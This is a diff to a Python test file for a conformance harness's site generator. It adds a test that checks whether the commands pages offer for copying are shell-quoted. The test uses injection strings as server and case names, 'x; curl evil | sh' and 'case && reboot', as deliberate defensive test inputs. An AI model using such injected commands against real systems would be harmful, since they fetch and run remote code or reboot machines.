@@ -10,7 +10,7 @@ import msgspec
 import pytest
 
 from harness import plugins
-from harness.model import Run, Verdict
+from harness.model import Evidence, Run, Verdict
 from harness.requirements import text as requirements
 from harness.requirements.coverage import cases_of
 from harness.site.data import site_of
@@ -28,7 +28,7 @@ from harness.site.requirement_results import (
 )
 from harness.site.write import write_site
 from tests.checked_run import CASE, FRAME, ORDER, SCRIPT, SPEC, START, checked_run, result
-from tests.site_pages import ALERT, PageParser, ParsedPage, parse
+from tests.site_pages import ALERT, PageParser, ParsedPage, declared, parse, run_with
 
 KNOWN = requirements.of(SPEC)
 
@@ -143,6 +143,20 @@ def test_a_message_with_a_byte_that_is_no_text_is_shown_as_an_escape(run: Run, t
     ]
     write_site(Run(run.info, cases, run.trials, run.blocks), tmp_path)
     assert "it sent \\udcff" in parse(tmp_path / "conformance/broadcast/servers/bad.html").text
+
+
+def test_commands_to_copy_are_quoted_for_a_shell(tmp_path: Path) -> None:
+    """A manifest may have any name that can be printed, and a run from elsewhere cases of any name."""
+    name = "x; curl evil | sh"
+    evidence = Evidence(seed=7)
+    cases = [result(name, "case && reboot", Verdict.FAIL, ORDER, evidence=evidence)]
+    other, server = declared("go", "asyncio")
+    run = run_with(other, msgspec.structs.replace(server, name=name), cases=cases)
+    write_site(run, tmp_path)
+    words = " ".join(parse(tmp_path / f"conformance/broadcast/servers/{slug(name)}.html").text.split())
+    assert f"harness check '{name}' --spec broadcast repeats it" in words
+    assert f"harness check '{name}' --spec broadcast -k 'case && reboot' --seed 7" in words
+    assert f"harness history '{name}' has" in parse(tmp_path / f"servers/broadcast/{slug(name)}.html").text
 
 
 def test_the_page_of_a_server_leads_to_its_conformance(folder: Path) -> None:
